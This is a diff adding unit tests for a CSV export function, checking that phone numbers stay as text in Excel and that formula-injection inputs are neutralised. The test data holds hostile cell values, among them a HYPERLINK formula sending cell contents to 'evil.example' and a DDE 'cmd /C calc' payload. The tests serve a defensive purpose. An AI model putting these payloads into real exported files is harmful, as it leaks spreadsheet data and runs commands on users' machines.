@@ -105,6 +105,43 @@ describe('CSV cells', () => {
     expect(csvCell(value)).toBe(cell)
   })
 
+  it.each([
+    ['+201012345678', '"=""+201012345678"""'],
+    ['01012345678', '"=""01012345678"""'],
+    ['+20 101 234 5678', '"=""+20 101 234 5678"""'],
+    ['+44 (20) 7946-0958', '"=""+44 (20) 7946-0958"""'],
+  ])('the phone %j is kept as text Excel shows whole: %j', (phone, cell) => {
+    expect(csvCell({ phone })).toBe(cell)
+  })
+
+  it('a phone field never carries a formula of its own: anything but digits and separators is text', () => {
+    const hostile = [
+      '+20"&HYPERLINK("http://evil.example/?"&A1)&"',
+      '=1+1',
+      '0101234567")+cmd|" /C calc"!A0',
+      '+20 100 SUM(A1:A9)',
+      '\t+201012345678',
+      '@SUM(1)',
+      '-1012345678',
+      '+2010123456789012345678901',
+      '(+971) 50-123.4567',
+      '٠١٠١٢٣٤٥٦٧٨',
+    ]
+    for (const phone of hostile) {
+      const cell = csvCell({ phone })
+      // Either no formula at all (neutralised, or plain text)…
+      if (!cell.startsWith('"=')) {
+        expect(cell, phone).not.toMatch(/^"?[=+\-@\t\r]/)
+        continue
+      }
+      // …or a constant string: ="…" around digits and separators only.
+      expect(cell, phone).toMatch(/^"=""\+?[\d ().-]+"""$/)
+    }
+    expect(csvCell({ phone: '=1+1' })).toBe("'=1+1")
+    expect(csvCell({ phone: '+20"&HYPERLINK("x")&"' })).toBe(`"'+20""&HYPERLINK(""x"")&"""`)
+    expect(csvCell({ phone: '٠١٠١٢٣٤٥٦٧٨' })).toBe('٠١٠١٢٣٤٥٦٧٨')
+  })
+
   it('leaves numbers and empties alone and ends rows with CRLF', () => {
     expect(csvRow([-5, null, undefined, 0, 'x'])).toBe('-5,,,0,x\r\n')
   })
